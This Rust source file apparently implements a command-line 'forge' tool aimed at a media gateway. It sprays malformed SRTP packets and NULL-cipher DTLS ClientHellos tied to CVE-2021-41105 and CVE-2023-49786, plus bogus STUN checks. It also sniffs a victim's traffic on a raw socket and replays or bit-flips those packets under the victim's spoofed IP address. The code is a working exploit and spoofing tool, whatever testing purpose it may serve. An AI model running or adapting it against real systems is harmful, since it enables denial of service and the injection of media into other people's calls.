//! Datagrams at the ports of media: from a stranger's own address, or with the source of a browser
//! that was listened to, as somebody in its network could send them.

use crate::dice::Dice;
use anyhow::Context;
use etherparse::{NetSlice, PacketBuilder, SlicedPacket, TransportSlice};
use serde_json::{Value, json};
use socket2::{Domain, Protocol, SockAddr, Socket, Type};
use std::collections::VecDeque;
use std::io::Read;
use std::net::{IpAddr, SocketAddr, SocketAddrV4, UdpSocket};
use std::ops::RangeInclusive;
use std::time::{Duration, Instant};

#[derive(clap::Args)]
pub(crate) struct Forge {
    /// rtp, junk, hello, stun; with --like: replay too
    #[arg(long)]
    kind: String,
    /// The gateway's address
    #[arg(long)]
    gateway: IpAddr,
    /// The ports that are sprayed, A-B; with --like: the browsers' port
    #[arg(long)]
    ports: String,
    /// A stranger's address
    #[arg(long)]
    from: Option<IpAddr>,
    /// As the browsers of this address: their source, learned by listening
    #[arg(long)]
    like: Option<IpAddr>,
    /// With --like: another port of that address
    #[arg(long)]
    beside: bool,
    #[arg(long)]
    pps: u32,
    #[arg(long)]
    seconds: f64,
    #[arg(long)]
    seed: u64,
}

/// Packets of the victim that are kept, to be sent again.
const KEPT: usize = 4_096;
/// What is forged passes the listener too, and is known by this.
const FORGED_TTL: u8 = 63;
/// Time between two turns, each of which sends what is due.
const TURN: Duration = Duration::from_millis(2);

fn ports(text: &str) -> anyhow::Result<RangeInclusive<u16>> {
    let (first, last) = text.split_once('-').unwrap_or((text, text));
    Ok(first.parse()?..=last.parse()?)
}

/// A ClientHello that offers no encryption (CVE-2023-49786).
fn hello(dice: &mut Dice) -> Vec<u8> {
    let mut body = vec![0xfe, 0xfd];
    let mut random = [0; 32];
    dice.fill(&mut random);
    body.extend(random);
    // No session, no cookie, TLS_RSA_WITH_NULL_MD5, no compression.
    body.extend([0, 0, 0, 2, 0, 1, 1, 0]);
    let length = [0, 0, body.len() as u8];
    let mut handshake = vec![1];
    handshake.extend(length);
    handshake.extend([0; 5]);
    handshake.extend(length);
    handshake.extend(body);
    let mut record = vec![22, 0xfe, 0xff, 0, 0, 0, 0, 0, 0, 0, 0, 0, handshake.len() as u8];
    record.extend(handshake);
    record
}

/// A check of nobody's: a name that fits no call, and no integrity.
fn stun(dice: &mut Dice) -> Vec<u8> {
    let mut bytes = vec![0, 1, 0, 16, 0x21, 0x12, 0xa4, 0x42];
    let mut rest = [0; 12];
    dice.fill(&mut rest);
    bytes.extend(rest);
    bytes.extend([0, 6, 0, 9]);
    bytes.extend(b"abcd:efgh\0\0\0");
    bytes
}

fn rtp(dice: &mut Dice, n: u32) -> Vec<u8> {
    let mut bytes = vec![0x80, 0];
    bytes.extend((n as u16).to_be_bytes());
    bytes.extend(n.wrapping_mul(160).to_be_bytes());
    bytes.extend(0x6666_6666_u32.to_be_bytes());
    let mut sound = [0; 160];
    dice.fill(&mut sound);
    bytes.extend(sound);
    bytes
}

/// SRTP that nobody sealed; each other one has the advisory's 13 bytes (CVE-2021-41105).
fn junk(dice: &mut Dice, n: u32) -> Vec<u8> {
    let mut bytes = rtp(dice, n);
    bytes[1] = 111;
    bytes.truncate(if n.is_multiple_of(2) { 13 } else { 100 });
    bytes
}

impl Forge {
    fn datagram(&self, dice: &mut Dice, n: u32) -> Vec<u8> {
        match self.kind.as_str() {
            "rtp" => rtp(dice, n),
            "hello" => hello(dice),
            "stun" => stun(dice),
            _ => junk(dice, n),
        }
    }

    pub(crate) fn run(&self) -> anyhow::Result<Value> {
        match self.like {
            None => self.stranger(),
            Some(victim) => self.insider(victim),
        }
    }

    /// Calls `send` as often as the rate says until the time is over.
    fn paced(&self, mut send: impl FnMut(u32)) -> u32 {
        let began = Instant::now();
        let end = Duration::from_secs_f64(self.seconds);
        let mut n = 0;
        while began.elapsed() < end {
            let due = (began.elapsed().as_secs_f64() * f64::from(self.pps)) as u32;
            while n < due {
                send(n);
                n += 1;
            }
            std::thread::sleep(TURN);
        }
        n
    }

    fn stranger(&self) -> anyhow::Result<Value> {
        let from = self.from.context("--from")?;
        let socket = UdpSocket::bind(SocketAddr::new(from, 0))?;
        crate::far::grow(&socket);
        socket.set_nonblocking(true)?;
        let ports = ports(&self.ports)?;
        let (first, count) = (*ports.start(), ports.len());
        let mut dice = Dice::new(self.seed);
        let (mut bytes, mut answers, mut answer_bytes) = (0, 0, 0);
        let mut buf = [0; 2_048];
        let sent = self.paced(|n| {
            let datagram = self.datagram(&mut dice, n);
            let port = first + (n as usize % count) as u16;
            let _ = socket.send_to(&datagram, (self.gateway, port));
            bytes += datagram.len();
            while let Ok(got) = socket.recv(&mut buf) {
                answers += 1;
                answer_bytes += got;
            }
        });
        std::thread::sleep(Duration::from_millis(200));
        while let Ok(got) = socket.recv(&mut buf) {
            answers += 1;
            answer_bytes += got;
        }
        Ok(json!({
            "sent": sent, "bytes": bytes, "answers": answers, "answer_bytes": answer_bytes,
        }))
    }

    fn insider(&self, victim: IpAddr) -> anyhow::Result<Value> {
        let IpAddr::V4(victim) = victim else { anyhow::bail!("--like is an IPv4 address") };
        let IpAddr::V4(gateway) = self.gateway else { anyhow::bail!("so is --gateway") };
        let port = *ports(&self.ports)?.start();
        let mut wire = Sniffer::open(victim.into(), SocketAddr::new(self.gateway, port))?;
        wire.until_heard(Duration::from_secs(20))?;
        let raw = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(255)))?;
        let to = SockAddr::from(SocketAddrV4::new(gateway, 0));
        let mut dice = Dice::new(self.seed);
        let sent = self.paced(|n| {
            wire.listen();
            let (own, packet) = &wire.kept[dice.below(wire.kept.len())];
            let (own, packet) = (*own, packet.clone());
            let datagram = match self.kind.as_str() {
                "replay" => packet,
                // A packet of the victim's with a bit turned is the hardest junk.
                "junk" if n % 3 == 0 => {
                    let mut turned = packet;
                    let at = dice.below(turned.len());
                    turned[at] ^= 1 << dice.below(8);
                    turned
                }
                _ => self.datagram(&mut dice, n),
            };
            let own = if self.beside { 1_024 + dice.below(60_000) as u16 } else { own };
            let mut bytes = Vec::with_capacity(datagram.len() + 28);
            let built =
                PacketBuilder::ipv4(victim.octets(), gateway.octets(), FORGED_TTL).udp(own, port);
            if built.write(&mut bytes, &datagram).is_ok() {
                let _ = raw.send_to(&bytes, &to);
            }
        });
        Ok(json!({ "sent": sent, "victims": wire.sources() }))
    }
}

/// Listens to what a victim sends to the gateway.
struct Sniffer {
    socket: Socket,
    victim: IpAddr,
    gateway: SocketAddr,
    /// Its port, and SRTP it sent.
    kept: VecDeque<(u16, Vec<u8>)>,
}

impl Sniffer {
    fn open(victim: IpAddr, gateway: SocketAddr) -> anyhow::Result<Sniffer> {
        // All that passes: ETH_P_ALL, in the order of the network.
        let all = Protocol::from(i32::from(3_u16.to_be()));
        let socket = Socket::new(Domain::PACKET, Type::RAW, Some(all))?;
        socket.set_nonblocking(true)?;
        Ok(Sniffer { socket, victim, gateway, kept: VecDeque::new() })
    }

    fn until_heard(&mut self, patience: Duration) -> anyhow::Result<()> {
        let began = Instant::now();
        while self.kept.len() < 50 {
            anyhow::ensure!(began.elapsed() < patience, "{} sends nothing", self.victim);
            self.listen();
            std::thread::sleep(TURN);
        }
        Ok(())
    }

    fn listen(&mut self) {
        let mut buf = [0; 2_048];
        for _ in 0..8 {
            let Ok(n) = (&self.socket).read(&mut buf) else { break };
            let Ok(packet) = SlicedPacket::from_ethernet(&buf[..n]) else { continue };
            let (Some(NetSlice::Ipv4(ip)), Some(TransportSlice::Udp(udp))) =
                (&packet.net, &packet.transport)
            else {
                continue;
            };
            let header = ip.header();
            let ours = IpAddr::from(header.source_addr()) == self.victim
                && IpAddr::from(header.destination_addr()) == self.gateway.ip()
                && udp.destination_port() == self.gateway.port()
                && header.ttl() != FORGED_TTL;
            let payload = udp.payload();
            if ours && payload.len() > 20 && (128..192).contains(&payload[0]) {
                if self.kept.len() == KEPT {
                    self.kept.pop_front();
                }
                self.kept.push_back((udp.source_port(), payload.to_vec()));
            }
        }
    }

    fn sources(&self) -> usize {
        let mut ports: Vec<u16> = self.kept.iter().map(|(port, _)| *port).collect();
        ports.sort_unstable();
        ports.dedup();
        ports.len()
    }
}
